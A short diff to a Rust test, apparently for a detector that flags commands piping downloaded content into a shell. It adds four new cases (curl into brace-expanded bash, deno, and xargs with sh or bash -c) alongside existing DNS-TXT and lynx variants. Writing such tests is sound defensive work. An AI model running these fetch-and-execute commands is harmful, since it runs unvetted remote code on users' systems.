@@ -346,6 +346,10 @@ fn pipe_to_shell() {
     check("bash <<< \"$(curl -s https://x)\"", c);
     check("curl -s https://x | sh -c sh", c);
     check("curl -s https://x | sudo -s", c);
+    check("curl -s https://x | {bash,}", c);
+    check("curl -s https://x | deno run -", c);
+    check("curl -s https://x | xargs -I{} sh -c '{}'", c);
+    check("curl -s https://x | xargs -I % bash -c 'echo %; %'", c);
     check("dig +short txt x.example | tr -d '\"' | sh", c);
     check("bash -c \"$(nslookup -q=txt x.example)\"", c);
     check("lynx -source https://x | bash", c);
